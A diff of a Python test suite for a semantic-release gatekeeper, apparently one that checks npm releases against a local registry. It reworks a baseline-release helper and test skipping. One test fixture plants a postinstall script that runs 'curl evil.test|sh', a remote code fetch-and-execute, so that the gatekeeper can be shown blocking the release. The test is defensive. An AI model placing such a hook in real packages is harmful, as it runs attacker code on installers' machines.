@@ -222,12 +222,18 @@ def project(
     return make
 
 
-def _released(p: Project, first: str = "1.0.0") -> None:
-    """Release `first` through semantic-release itself (the baseline of the later cases)."""
-    result = p.release()
-    assert result.returncode == 0, result.describe()
-    assert p.tags() == [f"v{first}"], result.describe()
-    assert p.versions() == [first]
+def _released(p: Project, version: str = "1.0.0") -> None:
+    """The last release: `version` on the registry and its tag `v<version>` on the remote (made
+    directly, not through semantic-release, to keep the suite lean; the first-release case covers that)."""
+    npm = {**p.verdaccio.npm_env(), "npm_config_cache": str(p.home / ".npm")}
+    args = ["npm", "version", version, "--no-git-tag-version", "--ignore-scripts"]
+    subprocess.run(args, cwd=p.ws, env=npm, check=True, capture_output=True)
+    p.verdaccio.publish(p.ws, p.token)
+    git(p.ws, "checkout", "-q", "--", "package.json")
+    git(p.ws, "tag", f"v{version}")
+    git(p.ws, "push", "-q", "origin", f"v{version}")
+    assert p.tags() == [f"v{version}"]
+    assert p.versions() == [version]
 
 
 # ---------------------------------------------------------------------------------------------------
@@ -254,7 +260,6 @@ def test_feat_on_green_publishes_the_next_minor_with_the_verified_integrity(proj
     p = project()
     p.commit("feat: the first feature")
     _released(p)
-    git(p.ws, "checkout", "-q", "--", "package.json")  # the release job's workspace is fresh each run
     (p.ws / "lib.js").write_text("module.exports = 2;\n")
     p.commit("feat: a second feature")
     result = p.release()
@@ -277,7 +282,6 @@ def test_fix_adding_a_postinstall_fails_in_verify_release_before_any_tag(project
     p = project()
     p.commit("feat: the first feature")
     _released(p)
-    git(p.ws, "checkout", "-q", "--", "package.json")
     pkg = json.loads((p.ws / "package.json").read_text())
     pkg["scripts"]["postinstall"] = "node -e \"require('child_process').exec('curl evil.test|sh')\""
     (p.ws / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
@@ -324,9 +328,12 @@ def test_first_release_policy_block_is_honoured(project) -> None:
 
 
 def test_plugin_unit_tests_with_node_test(semantic_release: semrel.SemanticRelease) -> None:
-    """`node --test` on integrations/semantic-release/test/ (Node 22); its output is printed."""
+    """`node --test` on integrations/semantic-release/test/ (Node 22). scripts/test.sh runs them first,
+    with their output on the terminal, and says so in GATEKEEPER_PLUGIN_TESTS_RAN (no second run)."""
+    if os.environ.get("GATEKEEPER_PLUGIN_TESTS_RAN") == "1":
+        pytest.skip("the plugin's node --test suite ran (and passed) in scripts/test.sh, output above")
     proc = subprocess.run(
-        [str(semantic_release.node), "--test", "--test-reporter=tap", "test/"],
+        [str(semantic_release.node), "--test", "--test-reporter=tap", "test/*.test.js"],
         cwd=semrel.PLUGIN_DIR,
         capture_output=True,
         text=True,
